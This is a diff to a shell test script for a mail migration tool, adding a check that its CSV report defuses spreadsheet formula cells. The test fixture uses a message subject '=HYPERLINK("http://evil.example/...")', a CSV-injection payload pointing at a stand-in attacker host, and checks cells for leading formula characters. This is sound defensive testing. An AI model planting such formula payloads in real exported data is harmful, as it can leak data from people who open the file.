@@ -10,7 +10,8 @@
 #    filters by class; an unknown class is exit 78
 #  - doveadm -f json migrate status/report parse as JSON; report -c writes
 #    an RFC 4180 CSV (CRLF, mode 0600) that python's csv module reads with
-#    the documented columns
+#    the documented columns; a cell a spreadsheet would run as a formula
+#    (a subject "=HYPERLINK(...") starts with a quote, no control character
 #  - verify and verify -I explain every difference (exit 0); after a
 #    message is expunged at the destination, verify -I exits 2 and names
 #    its uid and subject
@@ -62,6 +63,10 @@ EOF
 gen_folder alice Sizes 3 2000 "report-small %d" || die "generating Sizes failed"
 gen_folder alice Sizes 1 70000 "report-too-big" || die "generating Sizes failed"
 gen_folder alice Sizes 1 300000 "report-filtered" || die "generating Sizes failed"
+# Formula: a too-big message whose subject a spreadsheet would run as a
+# formula: report -c must quote it (CSV injection)
+gen_folder alice Formula 1 70000 '=HYPERLINK("http://evil.example/?%d","click")' ||
+	die "generating Formula failed"
 # Batch: 60 small messages for the slow run
 gen_folder alice Batch 60 600 "batch %d" || die "generating Batch failed"
 
@@ -232,10 +237,21 @@ body = [dict(zip(want, r)) for r in rows[1:]]
 if any(len(r) != len(want) for r in rows):
     print("ragged rows"); sys.exit()
 js = json.load(open(rep))
-a = sorted((r["folder"], r["uid"], r["reason"], r["subject"], r["message_id"]) for r in body)
+# no cell a spreadsheet runs as a formula, no control character
+for r in rows:
+    for cell in r:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            print("formula cell %r" % cell); sys.exit()
+        if any(ord(ch) < 0x20 or 0x7f <= ord(ch) <= 0x9f for ch in cell):
+            print("control character in %r" % cell); sys.exit()
+def unquote(v):
+    return v[1:] if v[:2] in ("'=", "'+", "'-", "'@") else v
+a = sorted((r["folder"], r["uid"], r["reason"], unquote(r["subject"]), r["message_id"]) for r in body)
 b = sorted((r["folder"], r["uid"], r["reason"], r["subject"], r["message_id"]) for r in js)
 if a != b:
     print("CSV rows differ from the JSON report: %d vs %d" % (len(a), len(b))); sys.exit()
+if not any(r["subject"].startswith("'=HYPERLINK(") for r in body):
+    print("the =HYPERLINK( subject is not in the CSV as '=HYPERLINK("); sys.exit()
 # a subject with a comma or quote must survive the quoting
 print("ok %d" % len(body))
 EOF
